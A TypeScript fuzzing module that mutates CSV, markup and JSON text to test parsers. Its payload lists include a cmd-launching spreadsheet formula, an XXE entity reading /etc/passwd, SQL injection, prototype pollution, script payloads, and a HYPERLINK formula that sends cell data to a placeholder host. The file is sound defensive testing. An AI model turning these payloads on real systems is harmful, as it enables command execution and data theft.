import { ODD_NUMBERS, type Dice } from './mutations.ts'

/** What texts that are tables, pages or values stumble over. */
const MARKS: readonly string[] = [
  '"', '""', '"""', "'", '\\', '\\"', ',', ',,', ';', '\t', '|', ' ', '\n', '\r', '\r\n', '\n\n', '\0', '\ufeff', '\u2028',
  '\ufffd', '\ud800', '\u0001', '\u001f', '김', 'é', '💰', '=1+1', '=cmd|\' /C calc\'!A0', '@SUM(A1)', '+82', '-', '합계',
  '<script>globalThis.fuzzed=1</script>', '__proto__', 'constructor', 'toString', 'sep=;\n', '1,234.5', '1.234,5', 'NaN',
  'Infinity', '1e400', '0x10', 'null', '9'.repeat(40), '2026-13-45', '99999-01-01', '0000-00-00', "'; drop table orders; --",
] // prettier-ignore

const MARKUP: readonly string[] = [
  '<', '>', '</', '/>', '&', '&#x0;', '&#99999999;', '&amp;', '&lol;', '<![CDATA[', ']]>', '<!--', '-->', '<?xml?>',
  '<!DOCTYPE a [<!ENTITY lol "&lol;&lol;"><!ENTITY x SYSTEM "file:///etc/passwd">]>', '<row r="1048577">', '<row>', '</row>',
  '<c r="XFD1048576"><v>1</v></c>', '<c r="ZZZZ1"/>', '<c t="s"><v>4294967295</v></c>', '<td colspan="99999999" rowspan="99999999">x',
  '<table>', '</table>', '<table><tr><td>a<td>b', '<script>globalThis.fuzzed=1</script>', '<img src=x onerror="globalThis.fuzzed=1">',
  ' table:number-columns-repeated="2147483647"', ' table:number-rows-repeated="4294967295"', ' ss:Index="1048577"', ' ss:MergeAcross="-1"',
] // prettier-ignore

const JSON_MARKS: readonly string[] = [
  '{', '}', '[', ']', ':', ',', '[]', '{}', '"', '\\ud800', '\\u0000', '\\x', '{"__proto__":{"polluted":1}},', '"__proto__":{"polluted":1},',
  '"constructor":{"prototype":{"polluted":1}},', '1e999', '-', '01', 'nul', '\n', '[['.repeat(40), '{"a":'.repeat(40), '//', 'NaN',
] // prettier-ignore

/** What a text is, which says what it stumbles over. */
export type TextKind = 'table' | 'markup' | 'json'

const marksOf: Readonly<Record<TextKind, readonly string[]>> = {
  table: MARKS,
  markup: [...MARKUP, ...MARKUP, ...MARKS],
  json: [...JSON_MARKS, ...JSON_MARKS, ...MARKS],
}

type TextMutation = (text: string, dice: Dice, kind: TextKind) => string

const insertMarks: TextMutation = (text, dice, kind) => {
  const times = dice.size(12)
  let result = text
  for (let time = 0; time < times; time++) result = put(result, dice.below(result.length + 1), 0, dice.pick(marksOf[kind]))
  return result
} // prettier-ignore

const removeMarks: TextMutation = (text, dice) => {
  const mark = dice.pick(['"', ',', '\n', '\r', '\t', '<', '>', '{', '}', '[', ']', ':', '/', '='])
  const share = dice.pick([1, 0.5, 0.1])
  return text.replaceAll(mark, (found) => (dice.chance(share) ? '' : found))
}

const replaceMarks: TextMutation = (text, dice, kind) => {
  const mark = dice.pick(['"', ',', '\n', '\r\n', '\t', ' ', '-', '0', '1', '</td>', '<v>', '":'])
  const instead = dice.pick(marksOf[kind])
  const share = dice.pick([1, 0.5, 0.05])
  return text.replaceAll(mark, (found) => (dice.chance(share) ? instead : found)).slice(0, 1 << 20)
}

const oddNumbers: TextMutation = (text, dice) => {
  const share = dice.pick([1, 0.3, 0.05])
  return text.replaceAll(/\d+/g, (found) => (dice.chance(share) ? String(dice.pick(ODD_NUMBERS)) : found))
}

const lines: TextMutation = (text, dice) => {
  const all = text.split('\n')
  const at = dice.below(all.length)
  switch (dice.below(7)) {
    case 0:
      all.splice(at, 1)
      break
    case 1:
      all.splice(at, 0, ...Array.from({ length: dice.size(400) }, () => all[at]!))
      break
    case 2:
      all.splice(at, 0, all[0]!)
      break
    case 3:
      all.splice(at, 0, ...Array.from({ length: dice.size(2000) }, () => ''))
      break
    case 4:
      all.push(all.shift()!)
      break
    case 5:
      return all.join(dice.pick(['', '\r', '\r\n', '\n\r', '\u2028']))
    default:
      all[at] = all[at]!.slice(0, dice.below(all[at]!.length))
  }
  return all.join('\n')
}

const hugeCell: TextMutation = (text, dice, kind) => {
  const cell = dice.pick(['x', '김', '"', ' ', '1', 'a b ', dice.pick(marksOf[kind])])
  return put(text, dice.below(text.length + 1), 0, cell.repeat(Math.ceil(dice.size(200_000) / cell.length)))
}

const manyColumns: TextMutation = (text, dice) => {
  const mark = dice.pick([',', ';', '\t', '|', '<td>', '"a":1,', '1,'])
  const isEverywhere = dice.chance(0.3)
  const run = mark.repeat(dice.size(isEverywhere ? 300 : 8000))
  const at = isEverywhere ? -1 : dice.below(text.length + 1)
  return isEverywhere ? text.replaceAll('\n', `${run}\n`).slice(0, 1 << 20) : put(text, at, 0, run)
}

const quoteAll: TextMutation = (text, dice) => {
  const quote = dice.pick(['"', "'", '=""'])
  return text.replaceAll(/[^,\r\n]+/g, (cell) => quote + cell + quote)
}

/** Every cell a formula or a script, the header too. */
const hostileCells: TextMutation = (text, dice) => {
  const cell = dice.pick(['=1+1', '=HYPERLINK("http://x.invalid/?"&A1)', '<script>globalThis.fuzzed=1</script>', '__proto__'])
  const written = /[",]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell
  return text.replaceAll(/[^,\r\n]+/g, () => written)
} // prettier-ignore

const textMutations: readonly TextMutation[] = [
  insertMarks, insertMarks, insertMarks, insertMarks, removeMarks, replaceMarks, replaceMarks, oddNumbers, oddNumbers, lines,
  lines, lines, hugeCell, manyColumns, quoteAll, hostileCells,
] // prettier-ignore

/** A text with one change that its kind of text may stumble over. */
export function mutateText(text: string, dice: Dice, kind: TextKind): string {
  return dice.pick(textMutations)(text, dice, kind)
}

function put(text: string, at: number, removed: number, piece: string): string {
  return text.slice(0, at) + piece + text.slice(at + removed)
}
